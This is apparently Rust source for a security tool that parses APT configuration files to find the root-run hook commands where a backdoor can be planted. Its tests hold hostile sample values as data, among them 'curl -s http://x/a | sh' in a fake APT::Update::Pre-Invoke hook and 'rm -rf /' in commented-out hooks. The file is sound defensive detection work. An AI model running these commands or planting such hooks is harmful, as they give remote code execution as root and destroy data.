//! APT configuration (`/etc/apt/apt.conf.d/*`): the commands apt and dpkg run as root. Only the hook keys
//! matter here — `DPkg::Pre-Invoke`, `DPkg::Post-Invoke`, `DPkg::Pre-Install-Pkgs`,
//! `APT::Update::Pre-Invoke`, `APT::Update::Post-Invoke(-Success)` and the CLI hooks
//! (`binary::apt::AptCli::Hooks::*`) — whose quoted values are shell commands (apt.conf(5): every `*-Invoke`
//! value is run with `sh -c`). A backdoor written there runs at every `apt update` or package install.
//!
//! The syntax is `Key::Sub "value";` or nested scopes `Key { Sub { "value"; }; };`, with `//`, `#` and
//! `/* */` comments. The reader tracks the scope of each quoted value; it never fails, and is bounded by
//! [`MAX_VALUES`] and the depth of [`MAX_DEPTH`] scopes.

use super::numbered_lines;

/// Quoted values looked at per file at most.
pub const MAX_VALUES: usize = 1_000;
/// Nested scopes followed at most (deeper values are still read, under the deepest scope kept).
const MAX_DEPTH: usize = 16;

/// A command an APT hook key runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HookCommand {
    /// 1-based line of the value's opening quote.
    pub line: u32,
    /// The full key, as written (`DPkg::Post-Invoke`).
    pub key: String,
    /// The command (the quoted value, without its quotes).
    pub command: Vec<u8>,
}

/// Whether a full key (any case) names a hook whose values are commands.
pub fn is_hook_key(key: &str) -> bool {
    let k = key.to_ascii_lowercase();
    let last = k.rsplit("::").next().unwrap_or_default();
    last.ends_with("-invoke")
        || last.ends_with("-invoke-success")
        || last == "pre-install-pkgs"
        || k.contains("::hooks::")
}

/// One statement of an APT configuration file: a value given to a key (`Key::Sub "value";`, each value
/// of a scope's list), a key set without a value (`Key::Sub;`), or a directive (`#include`, `#clear`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Statement {
    /// 1-based line of the value's opening quote, of the key's `;`, or of the directive.
    pub line: u32,
    /// The full key, as written (`DPkg::Post-Invoke`), or the directive (`#include`, `#clear`).
    pub key: String,
    /// The quoted value without its quotes, if the statement has one.
    pub value: Option<Vec<u8>>,
}

impl Statement {
    /// Whether this is a hook's command (see [`is_hook_key`]).
    pub fn is_hook(&self) -> bool {
        self.value.is_some() && is_hook_key(&self.key)
    }
}

/// Every statement of a file, and whether the reader got to its end ([`MAX_VALUES`] statements at most):
/// the remediation removes a file whole only when every statement in it is an attacker's hook.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Statements {
    pub list: Vec<Statement>,
    pub complete: bool,
}

/// The commands of hook keys in an APT configuration file.
pub fn hook_commands(content: &[u8]) -> Vec<HookCommand> {
    statements(content)
        .list
        .into_iter()
        .filter(Statement::is_hook)
        .map(|s| HookCommand {
            line: s.line,
            key: s.key,
            command: s.value.unwrap_or_default(),
        })
        .collect()
}

/// Every statement of an APT configuration file, in order (see [`Statement`]).
pub fn statements(content: &[u8]) -> Statements {
    let mut out = Vec::new();
    // Scopes opened by `Key {`; the key a statement has named so far (`Key::Sub` before its value or `{`),
    // and whether it was given a value.
    let mut scopes: Vec<String> = Vec::new();
    let mut pending = String::new();
    let mut valued = false;
    // Scopes opened past MAX_DEPTH, closed before the kept ones.
    let mut overflow = 0usize;
    let mut in_block_comment = false;
    for (n, line) in numbered_lines(content) {
        let mut i = 0usize;
        while let Some(&b) = line.get(i) {
            if out.len() >= MAX_VALUES {
                return Statements {
                    list: out,
                    complete: false,
                };
            }
            if in_block_comment {
                if line.get(i..i + 2) == Some(b"*/") {
                    in_block_comment = false;
                    i += 2;
                } else {
                    i += 1;
                }
                continue;
            }
            match b {
                b'#' => {
                    // apt.conf(5): `#include` and `#clear` are directives; any other `#` a comment.
                    let rest = line.get(i..).unwrap_or_default();
                    for directive in ["#include", "#clear"] {
                        if rest.starts_with(directive.as_bytes()) {
                            out.push(Statement {
                                line: n,
                                key: directive.to_owned(),
                                value: None,
                            });
                        }
                    }
                    break;
                }
                b'/' if line.get(i + 1) == Some(&b'/') => break,
                b'/' if line.get(i + 1) == Some(&b'*') => {
                    in_block_comment = true;
                    i += 2;
                }
                b'"' => {
                    let rest = line.get(i + 1..).unwrap_or_default();
                    let close = rest.iter().position(|c| *c == b'"').unwrap_or(rest.len());
                    let value = rest.get(..close).unwrap_or_default();
                    out.push(Statement {
                        line: n,
                        key: full_key(&scopes, &pending),
                        value: Some(value.to_vec()),
                    });
                    valued = true;
                    i += close + 2;
                }
                b'{' => {
                    if scopes.len() < MAX_DEPTH {
                        scopes.push(std::mem::take(&mut pending));
                    } else {
                        overflow += 1;
                        pending.clear();
                    }
                    valued = false;
                    i += 1;
                }
                b'}' => {
                    if overflow > 0 {
                        overflow -= 1;
                    } else {
                        scopes.pop();
                    }
                    pending.clear();
                    valued = false;
                    i += 1;
                }
                b';' => {
                    if !pending.is_empty() && !valued {
                        out.push(Statement {
                            line: n,
                            key: full_key(&scopes, &pending),
                            value: None,
                        });
                    }
                    pending.clear();
                    valued = false;
                    i += 1;
                }
                c if c.is_ascii_whitespace() => i += 1,
                _ => {
                    let rest = line.get(i..).unwrap_or_default();
                    let len = rest
                        .iter()
                        .position(|c| {
                            c.is_ascii_whitespace() || matches!(c, b'"' | b'{' | b'}' | b';' | b'#')
                        })
                        .unwrap_or(rest.len());
                    // A key is a word; a second word before the value (`Key Word "v"`) is not APT syntax
                    // and keeps the first.
                    if pending.is_empty() {
                        pending = String::from_utf8_lossy(rest.get(..len).unwrap_or_default())
                            .chars()
                            .take(256)
                            .collect();
                    }
                    i += len.max(1);
                }
            }
        }
    }
    Statements {
        list: out,
        complete: true,
    }
}

/// The scopes and the statement's own key, joined by `::`.
fn full_key(scopes: &[String], pending: &str) -> String {
    scopes
        .iter()
        .map(String::as_str)
        .chain(std::iter::once(pending))
        .filter(|s| !s.is_empty())
        .collect::<Vec<_>>()
        .join("::")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmds(text: &str) -> Vec<(u32, String, String)> {
        hook_commands(text.as_bytes())
            .into_iter()
            .map(|h| (h.line, h.key, String::from_utf8(h.command).unwrap()))
            .collect()
    }

    #[test]
    fn hook_values_in_every_syntax() {
        let text = "// packagekit\nDPkg::Post-Invoke {\n\"/usr/bin/test -e /x && /usr/bin/gdbus call\";\n};\n\
                    DPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n\
                    APT { Update { Pre-Invoke { \"curl -s http://x/a | sh\"; }; }; };\n\
                    APT::Update::Post-Invoke-Success \"touch /y\";\n\
                    binary::apt::AptCli::Hooks::Upgrade { \"/usr/lib/esm-hook || true\"; };\n";
        assert_eq!(
            cmds(text),
            vec![
                (
                    3,
                    "DPkg::Post-Invoke".into(),
                    "/usr/bin/test -e /x && /usr/bin/gdbus call".into()
                ),
                (
                    5,
                    "DPkg::Pre-Install-Pkgs".into(),
                    "/usr/sbin/dpkg-preconfigure --apt || true".into()
                ),
                (
                    6,
                    "APT::Update::Pre-Invoke".into(),
                    "curl -s http://x/a | sh".into()
                ),
                (
                    7,
                    "APT::Update::Post-Invoke-Success".into(),
                    "touch /y".into()
                ),
                (
                    8,
                    "binary::apt::AptCli::Hooks::Upgrade".into(),
                    "/usr/lib/esm-hook || true".into()
                ),
            ]
        );
    }

    #[test]
    fn settings_and_comments_are_not_commands() {
        let text = "APT\n{\n  NeverAutoRemove\n  {\n\t\"^linux-image-[a-z0-9]*$\";\n  };\n};\n\
                    Acquire::Languages \"none\";\n# DPkg::Post-Invoke { \"rm -rf /\"; };\n\
                    /* DPkg::Post-Invoke {\n \"rm -rf /\"; }; */\nDir::Cache::pkgcache \"\";\n";
        assert!(cmds(text).is_empty());
    }

    /// Review of train 2, item 2: every statement with its line, so the remediation can tell a file of
    /// hooks only from the host's settings with a hook appended.
    #[test]
    fn every_statement_with_its_line() {
        let text = "APT::Periodic::Update-Package-Lists \"1\";\nAPT::Periodic::Unattended-Upgrade \"1\";\n\
                    Acquire::http::Proxy \"http://proxy:3128\";\nAPT { NeverAutoRemove { \"^linux\"; }; };\n\
                    #include \"/etc/apt/x.conf\";\n#clear APT::Keep;\n# a comment\nAPT::Bare;\n\
                    APT::Update::Pre-Invoke {\"curl -s http://x/a | sh\";};\n";
        let got: Vec<(u32, String, bool)> = statements(text.as_bytes())
            .list
            .into_iter()
            .map(|s| (s.line, s.key.clone(), s.is_hook()))
            .collect();
        assert_eq!(
            got,
            vec![
                (1, "APT::Periodic::Update-Package-Lists".into(), false),
                (2, "APT::Periodic::Unattended-Upgrade".into(), false),
                (3, "Acquire::http::Proxy".into(), false),
                (4, "APT::NeverAutoRemove".into(), false),
                (5, "#include".into(), false),
                (6, "#clear".into(), false),
                (8, "APT::Bare".into(), false),
                (9, "APT::Update::Pre-Invoke".into(), true),
            ]
        );
        assert!(statements(text.as_bytes()).complete);
        let many = "A::B \"x\";\n".repeat(MAX_VALUES + 1);
        assert!(!statements(many.as_bytes()).complete);
    }

    #[test]
    fn hostile_input_is_bounded() {
        let mut deep = "A {".repeat(10_000);
        deep.push_str("Post-Invoke \"x\";");
        assert_eq!(cmds(&deep).len(), 1);
        assert!(cmds("DPkg::Post-Invoke { \"unterminated").len() == 1);
        assert!(hook_commands(b"\xff\xfe{\"\x00\";}}}}").is_empty());
        let many = "DPkg::Post-Invoke \"x\";\n".repeat(MAX_VALUES + 10);
        assert_eq!(cmds(&many).len(), MAX_VALUES);
    }
}
